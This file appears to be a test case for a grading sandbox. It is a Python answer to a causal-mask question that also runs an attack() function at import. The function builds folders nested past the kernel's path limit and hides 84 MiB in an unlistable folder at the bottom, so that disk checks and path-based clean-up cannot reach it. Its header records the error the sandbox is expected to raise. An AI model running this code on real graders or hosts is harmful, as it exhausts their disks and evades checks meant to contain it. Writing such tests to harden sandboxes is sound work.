# attack: nests 17 folders of 250-character names in its own folder (made through descriptors, each name relative to the one above), so that their path is longer than the kernel takes (PATH_MAX, 4,096 bytes), and writes 12 files of 7 MiB (84 MiB, over the question's 64 MiB) in a folder made writable but not listable (mode 0300) at the bottom, where neither a disk check nor a clean-up that walks by path can reach (the folder's rights cannot be given back by its path); imports and answers right
# expect: module=q01_causal_mask status=error match=MiB or
# path: sandbox user
"""Question 1, written to fill the grader's disk below the longest path the kernel takes."""
import os

import torch
from torch import Tensor


def attack() -> None:
    """x*250/x*250/.../hoard/0 .. 11, 7 MiB each, hoard unlistable (mkdir's mode, not chmod, which seccomp refuses):
    every call is relative to a descriptor of the folder above."""
    fd = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(17):
        os.mkdir("x" * 250, dir_fd=fd)
        below = os.open("x" * 250, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = below
    os.mkdir("hoard", 0o300, dir_fd=fd)
    below = os.open("hoard", os.O_PATH | os.O_DIRECTORY, dir_fd=fd)
    os.close(fd)
    fd = below
    block = b"x" * (7 << 20)
    for number in range(12):
        handle = os.open(str(number), os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
        os.write(handle, block)
        os.close(handle)
    os.close(fd)


def prefix_average(x: Tensor) -> Tensor:
    """Row i of the result is the mean of rows 0..i of x: (..., T, d) -> (..., T, d)."""
    T = x.shape[-2]
    weights = torch.ones(T, T, dtype=x.dtype).tril()  # (T, T)
    return (weights / weights.sum(dim=-1, keepdim=True)) @ x  # (T, T) @ (..., T, d) -> (..., T, d)


def causal_mask(T: int) -> Tensor:
    """Boolean (T, T) table, True where key j may be seen by query i (j <= i)."""
    return torch.ones(T, T, dtype=torch.bool).tril()


def mask_scores(scores: Tensor, mask: Tensor) -> Tensor:
    """New tensor: scores where mask is True, -inf where it is False; (..., Tq, Tk), mask broadcasts."""
    return scores.masked_fill(~mask, float("-inf"))


attack()  # at import: every check of the question meets it
